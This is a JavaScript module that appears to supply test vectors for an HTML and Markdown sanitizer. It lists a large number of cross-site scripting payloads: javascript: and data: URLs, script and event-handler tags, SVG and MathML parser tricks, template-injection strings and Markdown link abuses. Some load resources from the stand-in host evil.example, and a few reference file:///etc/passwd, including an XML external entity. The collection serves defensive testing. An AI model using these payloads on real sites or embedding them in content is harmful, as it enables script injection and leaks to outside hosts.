// Texts that try to become markup, script or a request. Each calls alert, or asks a host that is not ours.

const evil = "https://evil.example/x";

// Addresses that are no place for a link or a picture to lead to.
const addresses = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
  "java\tscript:alert(1)", "java&#10;script:alert(1)", "\u0001javascript:alert(1)", "javascript://x/%0aalert(1)", "javascript:alert`1`", "jAvAsCrIpT&NewLine;:alert(1)",
  "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:alert(1)", "file:///etc/passwd", "blob:https://evil.example/1", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/",
  "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "http:javascript:alert(1)", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

const tags = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<script type=module>alert(1)</script>",
  "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "</script><script>alert(1)</script>", "<script src=data:,alert(1)></script>",
  "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert`1`>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", `<img src=${evil}.png>`, `<img srcset="${evil}.png 1x">`,
  "<img \"\"\"><script>alert(1)</script>\">", "<img src=x onload=alert(1) onerror=alert(2)//", "<image src=x onerror=alert(1)>", "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>",
  "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  `<svg><image href=${evil}.png /></svg>`, "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>", "<math><mi//xlink:href=data:x,alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", `<iframe src=${evil}></iframe>`, "<iframe onload=alert(1)></iframe>", "<object data=javascript:alert(1)></object>",
  `<object data=${evil}.swf></object>`, "<embed src=javascript:alert(1)>", `<embed src=${evil}>`, "<applet code=x onerror=alert(1)></applet>", "<frameset onload=alert(1)>", "<portal src=javascript:alert(1)></portal>",
  "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(https://evil.example/x)}</style>", "<style>*{x:expression(alert(1))}</style>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/x>",
  "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<div style=\"background:url(https://evil.example/x)\">x</div>", "<div style=\"background-image:url(javascript:alert(1))\">x</div>", "<p style='behavior:url(#default#time2)' onbegin=alert(1)>",
  "<body onload=alert(1)>", "<body background=https://evil.example/x>", "<table background=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<video poster=https://evil.example/x></video>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
  `<audio src=${evil}.mp3 autoplay></audio>`, "<track src=https://evil.example/x>", "<marquee onstart=alert(1)>x</marquee>", "<meter onmouseover=alert(1)>0</meter>", "<isindex type=image src=x onerror=alert(1)>", "<form action=javascript:alert(1)><input type=submit></form>",
  "<form><button formaction=javascript:alert(1)>x</button></form>", `<form action=${evil}><input name=x></form>`, "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", `<a ping=${evil} href=#>x</a>`, "<a id=x tabindex=1 onfocus=alert(1)>x</a>",
  "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta http-equiv=Set-Cookie content=x>", "<bgsound src=javascript:alert(1)>", "<layer src=https://evil.example/x></layer>",
  "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>", "<?xml version=1.0?><x onload=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img src=x onerror=alert(1)></title>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<slot onslotchange=alert(1)></slot>", "<dialog open onclose=alert(1)>x</dialog>", "<x-y onclick=alert(1)>x</x-y>", "<custom is=x onfocus=alert(1) tabindex=0>",
  "<p title='x' onmouseover='alert(1)'>x</p>", "<p onpointerrawupdate=alert(1)>x</p>", "<p onanimationstart=alert(1) style='animation:x'>x</p>", "<p oncontentvisibilityautostatechange=alert(1) style='content-visibility:auto'>", "<p popover onbeforetoggle=alert(1)>x</p>", "<b/onclick=alert(1)>x",
  "<img src=x onerror\u0000=alert(1)>", "<\u0000script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "\u003cscript\u003ealert(1)\u003c/script\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u202e<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script>\u2028alert(1)</script>", "<a\u000bhref=javascript:alert(1)>x", "<a\u3000href=javascript:alert(1)>x", "<img src='x`onerror=alert(1)`'>",
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[${alert(1)}]]", "{{7*7}}<img src=x onerror=alert(1)>", "{%raw%}<script>alert(1)</script>", "{\"__html\":\"<img src=x onerror=alert(1)>\"}", "__proto__", "constructor",
  "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "`onerror=alert(1)`", "\" style=\"background:url(https://evil.example/x)", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "*/alert(1)/*", "');alert(1);//", "\\\");alert(1);//",
];

const attack = "<img src=x onerror=alert(1)>";

// Markdown that a careless renderer makes something of.
const marks = [
  `**${attack}**`, `# ${attack}`, `> ${attack}`, `- ${attack}`, `| ${attack} | b |\n|---|---|\n| ${attack} | c |`, `\`\`\`${attack}\n${attack}\n\`\`\``, `\`\`\`html" onmouseover="alert(1)\nx\n\`\`\``, `\`${attack}\``, `~~${attack}~~`,
  `[${attack}](https://example.org/)`, `[x](https://example.org/"onmouseover="alert(1))`, `[x](https://example.org/ "\\"onmouseover=alert(1)//")`, `![${attack}](https://evil.example/x.png)`, `![x](https://evil.example/x.png "t")`,
  `[![x](https://evil.example/x.png)](javascript:alert(1))`, `[a][1]\n\n[1]: javascript:alert(1)`, `[1]: https://evil.example/x\n![a][1]`, `[^1]\n\n[^1]: ${attack}`, `<https://example.org/"onmouseover="alert(1)>`, `https://example.org/"onmouseover="alert(1)`,
  `<div>\n\n${attack}\n\n</div>`, `&lt;img src=x onerror=alert(1)&gt;`, `$$\\href{javascript:alert(1)}{x}$$`, `<details><summary>${attack}</summary></details>`, `- [x] ${attack}`, `1. [x](javascript:alert(1))\n   > ${attack}`,
  `[x](<javascript:alert(1)>)`, `[x]( javascript:alert(1) )`, `[x](java\nscript:alert(1))`, `[\u202ex](javascript:alert(1))`, `<javascript:alert(1)>`, `<data:text/html,${attack}>`,
];

export const vectors = [
  ...tags, ...marks,
  ...addresses.flatMap((a) => [`[link](${a})`, `![picture](${a})`, `<a href="${a}">x</a>`]),
];

export { addresses };
